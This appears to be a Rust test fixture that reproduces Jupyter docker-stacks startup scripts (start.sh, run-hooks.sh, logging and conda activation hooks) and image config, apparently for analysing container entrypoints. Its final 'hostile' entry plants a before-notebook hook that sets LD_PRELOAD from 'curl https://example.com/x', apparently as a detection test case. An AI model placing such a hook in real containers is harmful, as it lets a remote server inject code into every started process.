//! Jupyter's docker-stacks.

use serde_json::json;

use super::conda::conda;
use super::{Case, PASSWD};

/// Jupyter's docker-stacks: `start.sh`, `run-hooks.sh`, `start-notebook.d` and `before-notebook.d`.
pub fn jupyter() -> Case {
    let start = r#"#!/bin/bash
set -e

_log () {
    if [[ "$*" == "ERROR:"* ]] || [[ "$*" == "WARNING:"* ]] || [[ "${STACKS_QUIET}" == "" ]]; then
        echo "$@"
    fi
}
_log "start.sh:" "$@"

unset_named () {
    if [ -n "${VARS_TO_UNSET}" ]; then
        for one in $(echo "${VARS_TO_UNSET}" | tr ',' ' '); do
            _log "unset ${one}"
            unset "${one}"
        done
        unset VARS_TO_UNSET
    fi
}

if [ $# -eq 0 ]; then
    cmd=( "bash" )
else
    cmd=( "$@" )
fi

source /usr/local/bin/run-hooks.sh /usr/local/bin/start-notebook.d

if [ "$(id -u)" == 0 ] ; then
    if id jovyan &> /dev/null ; then
        if ! usermod --home "/home/${NB_USER}" --login "${NB_USER}" jovyan 2>&1 | grep "no changes" > /dev/null; then
            _log "renamed"
        fi
    fi
    export XDG_CACHE_HOME="/home/${NB_USER}/.cache"
    source /usr/local/bin/run-hooks.sh /usr/local/bin/before-notebook.d
    unset_named
    exec sudo --preserve-env --set-home --user "${NB_USER}" \
        LD_LIBRARY_PATH="${LD_LIBRARY_PATH}" \
        PATH="${PATH}" \
        PYTHONPATH="${PYTHONPATH:-}" \
        "${cmd[@]}"
else
    if [[ "${GRANT_SUDO}" == "1" || "${GRANT_SUDO}" == "yes" ]]; then
        _log "WARNING: only root grants sudo"
    fi
    JOVYAN_UID="$(id -u jovyan 2>/dev/null)"
    JOVYAN_GID="$(id -g jovyan 2>/dev/null)"
    if ! whoami &> /dev/null; then
        _log "no entry for UID=$(id -u)"
        if [[ -w /etc/passwd ]]; then
            sed --expression="s/^jovyan:/nayvoj:/" /etc/passwd > /tmp/passwd
            echo "${NB_USER}:x:$(id -u):$(id -g):,,,:/home/jovyan:/bin/bash" >> /tmp/passwd
            cat /tmp/passwd > /etc/passwd
            rm /tmp/passwd
        fi
    fi
    if [[ "${NB_USER}" != "jovyan" && "${NB_USER}" != "$(id -un)" ]]; then
        _log "WARNING: only root changes the name"
    fi
    if [[ "${NB_UID}" != "${JOVYAN_UID}" && "${NB_UID}" != "$(id -u)" ]]; then
        _log "WARNING: only root changes the id"
    fi
    if [[ ! -w /home/jovyan ]]; then
        _log "WARNING: /home/jovyan is read-only"
    fi
    source /usr/local/bin/run-hooks.sh /usr/local/bin/before-notebook.d
    unset_named
    _log "runs:" "${cmd[@]}"
    exec "${cmd[@]}"
fi
"#;
    let hooks = r#"#!/bin/bash
if ! declare -F _log_info >/dev/null; then
    source /usr/local/bin/_log.sh
fi
if [ "$#" -ne 1 ]; then
    _log_error "one directory, please"
    return 1
fi
if [[ ! -d "${1}" ]]; then
    _log_error "no directory ${1}"
    return 1
fi
if [[ "$-" == *e* ]]; then
    was_set="yes"
else
    was_set="no"
fi
set +e
_log_info "hooks in ${1} as uid: $(id -u) gid: $(id -g)"
for hook in "${1}/"*; do
    [ -e "${hook}" ] || continue
    case "${hook}" in
        *.sh)
            _log_info "source ${hook}"
            source "${hook}"
            rc=$?
            set +e
            if [ "${rc}" -ne 0 ]; then
                _log_error "${hook} failed"
            fi
            ;;
        *)
            if [ -x "${hook}" ]; then
                _log_info "run ${hook}"
                "${hook}"
                rc=$?
                if [ "${rc}" -ne 0 ]; then
                    _log_error "${hook} failed"
                fi
            else
                _log_info "skip ${hook}"
            fi
            ;;
    esac
done
if [[ "${was_set}" == "yes" ]]; then
    set -e
fi
unset was_set rc hook
"#;
    let log = r#"#!/bin/bash
_log_line () {
    local level="${1}"
    case "${level}" in
        INFO|WARNING|ERROR) shift ;;
        *) level="INFO" ;;
    esac
    local msg
    msg="${level}[$(date '+%Y-%m-%d %H:%M:%S')] $*"
    if [[ -t 2 ]] && [[ "${NO_COLOR:-}" == "" ]]; then
        local color=""
        case "${level}" in
            ERROR) color='31' ;; # red
            WARNING) color='33' ;;
        esac
        if [[ -n "${color}" ]]; then
            msg=$'\033[0;'"${color}m${msg}"$'\033[0m'
        fi
    fi
    echo "${msg}" >&2
}
_log_info () { _log_line "INFO" "$@"; }
_log_error () { _log_line "ERROR" "$@"; }
"#;
    Case {
        name: "Jupyter",
        config: json!({
            "Entrypoint": ["tini", "-g", "--", "start.sh"], "Cmd": ["jupyter", "lab"], "User": "1000", "WorkingDir": "/home/jovyan",
            "Env": [
                "PATH=/opt/conda/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "CONDA_DIR=/opt/conda",
                "NB_USER=jovyan", "NB_UID=1000", "NB_GID=100", "HOME=/home/jovyan", "LANG=C.UTF-8",
            ],
        }),
        files: [
            vec![
                ("usr/local/bin/start.sh", start),
                ("usr/local/bin/run-hooks.sh", hooks),
                ("usr/local/bin/_log.sh", log),
                (
                    "usr/local/bin/before-notebook.d/10activate.sh",
                    "eval \"$(conda shell.bash hook | sed 's/conda activate base//g')\"\nconda activate \"${CONDA_ENV:-base}\"\n",
                ),
                (
                    "usr/local/bin/start-notebook.d/10hello.sh",
                    "echo hello\n",
                ),
                ("etc/passwd", PASSWD),
                (
                    "opt/conda/bin/jupyter",
                    "#!/usr/local/bin/python3\nimport sys\nfrom jupyter_core.command import main\nsys.exit(main())\n",
                ),
                ("home/jovyan/.keep", ""),
            ],
            conda(),
        ]
        .concat(),
        programs: vec![],
        starts: vec!["/usr/local/bin/python3", "/opt/conda/bin/jupyter", "lab"],
        environment: vec![("PATH", "/opt/conda/bin:/opt/conda/condabin:/opt/conda/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")],
        hostile: (
            "usr/local/bin/before-notebook.d/20extra.sh",
            "LD_PRELOAD=$(curl https://example.com/x)\nexport LD_PRELOAD\n",
            "LD_PRELOAD",
        ),
    }
}
